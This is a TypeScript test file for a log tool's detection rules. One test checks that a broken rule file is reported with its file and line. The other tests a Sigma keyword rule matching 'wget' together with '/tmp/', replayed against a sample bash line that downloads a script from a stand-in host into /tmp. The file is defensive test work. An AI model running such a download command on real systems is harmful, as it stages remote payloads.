// `logwarden check` validates the rule files of detect actions with the config; Sigma keyword maps ('|all')
// match anywhere in the message like plain keywords.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { Reporter } from '../../src/config/diagnostics';
import { loadConfig } from '../../src/config/load';
import { detectRuleDiagnostics } from '../../src/detect/check';
import { loadRuleText } from '../../src/detect/load';
import { replay } from '../../src/detect/replay';
import { lookupComponent } from '../../src/runtime/registry';
import { tempDir } from '../helpers/util';

test('check reports a detect action\'s broken rule file with file:line:col (paths relative to the config)', () => {
  const tmp = tempDir();
  try {
    writeFileSync(join(tmp.dir, 'r.yml'), 'rules:\n  - id: a\n    kind: match\n    query: "app:("\n');
    const conf = join(tmp.dir, 'lw.conf');
    writeFileSync(conf, 'if $programname == "sshd" then {\n  action(type="detect" rules="r.yml")\n}\n');
    const model = loadConfig(conf, { lookupComponent });
    assert.deepEqual(model.diagnostics.filter((d) => d.severity === 'error'), []);
    const diags = detectRuleDiagnostics(model, conf);
    assert.equal(diags.length, 1);
    assert.equal(diags[0]!.code, 'LW_ERR_RULE_QUERY');
    assert.equal(`${diags[0]!.loc.file}:${diags[0]!.loc.line}`, `${join(tmp.dir, 'r.yml')}:4`);
  } finally {
    tmp.cleanup();
  }
});

test('a Sigma keyword map with |all needs every keyword, anywhere in the message', () => {
  const rep = new Reporter();
  const rules = loadRuleText('k.yml', `title: Both words
logsource: { product: linux, service: syslog }
detection:
  keywords:
    '|all':
      - 'wget'
      - '/tmp/'
  condition: keywords
level: high
`, rep);
  assert.deepEqual(rep.diagnostics, []);
  const t = '2025-01-15T07:00:00.000000+00:00 h bash[1]: ';
  assert.equal(replay(rules, [`${t}cd /tmp/ && wget http://x/a.sh`]).detections.length, 1);
  assert.equal(replay(rules, [`${t}wget http://x/a.sh`]).detections.length, 0);
});
